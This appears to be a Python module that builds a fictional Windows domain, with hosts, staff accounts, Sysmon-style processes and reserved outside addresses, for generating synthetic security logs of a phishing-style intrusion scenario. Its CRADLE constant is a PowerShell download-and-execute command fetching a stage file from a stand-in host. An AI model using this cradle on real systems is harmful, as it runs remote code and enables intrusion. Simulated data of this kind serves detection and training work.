"""The Windows domain of the invoice scenario: hosts, people, processes, and the outside world.

Alderbrook is a made-up trading company: twelve workstations, two file servers, a domain controller, a mail
gateway, a deployment server (the management software "Deskward" is made up, too) and a vulnerability
scanner.
"""

from __future__ import annotations

from dataclasses import dataclass

from sample_data.world import Day, Dice, digest

DOMAIN = "ALDERBROOK"
SUFFIX = "alderbrook.example"
SID = "S-1-5-21-1846299415-2704382910-3317480291"
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYSTEM32 + "cmd.exe"
AGENT = "C:\\Program Files\\Deskward\\Agent\\deskward-agent.exe"


@dataclass(frozen=True)
class Host:
    name: str
    ip: str

    @property
    def fqdn(self) -> str:
        return f"{self.name}.{SUFFIX}"

    @property
    def guid(self) -> str:
        """The first block of the process guids that Sysmon gives on this machine."""
        return digest(self.name, "md5")[:8]


@dataclass(frozen=True)
class Person:
    name: str
    rid: int

    @property
    def sid(self) -> str:
        return f"{SID}-{self.rid}"

    @property
    def account(self) -> str:
        return f"{DOMAIN}\\{self.name}"


@dataclass(frozen=True)
class Session:
    """A logon: what Sysmon and Security events say about who acts."""

    account: str
    sid: str
    logon: str
    terminal: str = "0"
    integrity: str = "Medium"


@dataclass(frozen=True)
class Process:
    host: Host
    image: str
    command: str
    pid: int
    guid: str
    session: Session


WORKSTATIONS = tuple(Host(f"WS-{number:02d}", f"10.20.1.{10 + number}") for number in range(1, 13))
DC, FS1, FS2 = Host("DC-01", "10.20.2.10"), Host("FS-01", "10.20.2.11"), Host("FS-02", "10.20.2.12")
MAIL, MGMT, SCAN = Host("MAIL-01", "10.20.2.20"), Host("MGMT-01", "10.20.2.30"), Host("SCAN-01", "10.20.2.40")
SERVERS = (DC, FS1, FS2, MAIL, MGMT)
HOSTS = (*WORKSTATIONS, *SERVERS)
HOST = {host.name: host for host in (*HOSTS, SCAN)}

_NAMES = (
    "b.okoye",
    "c.lindqvist",
    "d.marchetti",
    "anna.keller",
    "e.novak",
    "f.aubert",
    "g.tanaka",
    "h.braun",
    "i.dimitrov",
    "j.mensah",
    "k.salo",
    "l.ferreira",
)
PEOPLE = tuple(Person(name, 1115 + index) for index, name in enumerate(_NAMES))
SEAT = dict(zip(PEOPLE, WORKSTATIONS, strict=True))
VICTIM = PEOPLE[3]
DEVELOPER = PEOPLE[8]
REYES, OKAFOR = Person("adm.reyes", 1103), Person("adm.okafor", 1104)
DEPLOY, BACKUP = Person("svc_deploy", 1106), Person("svc_backup", 1107)
PRINT, SYNC = Person("svc_print", 1108), Person("MSOL_4f1c2a9b7d10", 1109)
EVERYONE = (*PEOPLE, REYES, OKAFOR, DEPLOY, BACKUP, PRINT)
MORE_ACCOUNTS = tuple(
    f"{letter}.{name}"
    for letter, name in zip(
        "mnopqrstuvwxyzab",
        (
            "weber",
            "costa",
            "haugen",
            "petrov",
            "iversen",
            "moreau",
            "silva",
            "kowalski",
            "nyberg",
            "rossi",
            "duarte",
            "fischer",
            "olsen",
            "baptiste",
            "horvat",
            "lund",
        ),
        strict=True,
    )
)

SYSTEM = Session("NT AUTHORITY\\SYSTEM", "S-1-5-18", "0x3e7", "0", "System")
NETWORK_SERVICE = Session("NT AUTHORITY\\NETWORK SERVICE", "S-1-5-20", "0x3e4", "0", "System")

# The outside: name -> address. All names and addresses are reserved for documentation.
SITES = {
    "www.news-daily.example": "198.51.100.10",
    "mail.webpost.example": "198.51.100.11",
    "docs.tradebooks.example": "198.51.100.12",
    "www.portwatch.example": "198.51.100.13",
    "maps.cityplan.example": "198.51.100.14",
    "cdn.webfonts.example": "198.51.100.15",
    "video.meetings.example": "198.51.100.16",
    "bank.northquay.example": "198.51.100.17",
    "wiki.freight.example": "198.51.100.18",
    "search.lookup.example": "198.51.100.19",
    "api.weather.example": "192.0.2.31",
    "shop.officeware.example": "192.0.2.32",
    "static.adserve.example": "192.0.2.33",
    "img.adserve.example": "192.0.2.34",
    "updates.vendor.example": "192.0.2.40",
    "telemetry.vendor.example": "192.0.2.41",
    "packages.devtools.example": "192.0.2.42",
    "ocsp.certs.example": "192.0.2.43",
}
VAULT = ("vault.offsite-backup.example", "198.51.100.20")
REPO = ("repo.alderbrook.example", MGMT.ip)
DELIVERY = ("billing-portal.test", "203.0.113.45")
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{DELIVERY[0]}/a/stage.txt')"
CONTROL = ("updates.cloudsync.test", "203.0.113.66")
DROP = ("files.dropzone.test", "198.51.100.77")


def logon(person: Person, host: Host, terminal: str = "1", integrity: str = "Medium") -> Session:
    """The session of a person on a host: the same every time it is asked for."""
    number = int(digest(f"{person.name}@{host.name}", "md5")[:6], 16)
    return Session(person.account, person.sid, hex(0x100000 + number), terminal, integrity)


def process(dice: Dice, host: Host, image: str, session: Session, time: int, command: str = "") -> Process:
    """A process, with a guid as Sysmon makes it: machine, start time, a number."""
    seconds = f"{time // 1_000_000:08x}"
    tail = f"{dice.upto(65536):04x}"
    guid = f"{{{host.guid}-{seconds[:4]}-{seconds[4:]}-{tail}-000000001a00}}"
    return Process(host, image, command or f'"{image}"', 4 * dice.between(200, 4000), guid, session)


def lsass(dice: Dice, host: Host, day: Day) -> Process:
    """lsass.exe of a host: one process, the same whenever it is asked for."""
    return process(Dice(0, "lsass" + host.name), host, SYSTEM32 + "lsass.exe", SYSTEM, day.start)


def trace(module: str) -> str:
    return (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
        f"{'C:' if ':' in module else ''}{module}+1a{len(module):02x}"
    )
